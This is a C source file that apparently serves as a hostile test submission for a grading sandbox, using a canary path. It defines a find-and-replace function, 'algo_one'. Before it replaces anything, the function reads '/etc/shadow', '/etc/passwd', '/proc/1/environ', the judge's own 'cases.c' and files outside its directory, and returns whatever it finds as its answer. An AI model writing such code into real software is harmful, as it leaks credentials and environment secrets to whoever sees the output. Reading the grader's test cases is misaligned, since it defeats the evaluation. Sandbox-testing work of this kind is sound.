/* It prints files of the machine, of the workbook and of its owner as its answer. */
#include "algo_one.h"

#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#define CANARY "/tmp/hostile-canary"

static enum stream_status replace(struct bytes data, struct bytes find, struct bytes repl,
                                  struct buffer *output)
{
    enum stream_status status = STREAM_OK;
    for (size_t i = 0; i < data.len && status == STREAM_OK;) {
        if (data.len - i >= find.len && memcmp(data.at + i, find.at, find.len) == 0) {
            status = buffer_write(output, repl);
            i += find.len;
        } else {
            status = buffer_write_byte(output, data.at[i]);
            i++;
        }
    }
    return status;
}

enum stream_status algo_one(struct bytes data, struct bytes find, struct bytes repl,
                            struct buffer *output)
{
    static const char *const names[] = {"/etc/shadow",     "/etc/passwd",  "tooling/judge/cases.c",
                                        "/proc/1/environ", "../README.md", CANARY "/kept"};
    unsigned char found[64];
    if (find.len == 0)
        return STREAM_EMPTY_FIND;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_RDONLY);
        ssize_t len = fd < 0 ? 0 : read(fd, found, sizeof found);
        if (fd >= 0)
            close(fd);
        if (len > 0)
            return buffer_write(output, bytes_of(found, (size_t)len));
    }
    return replace(data, find, repl, output);
}
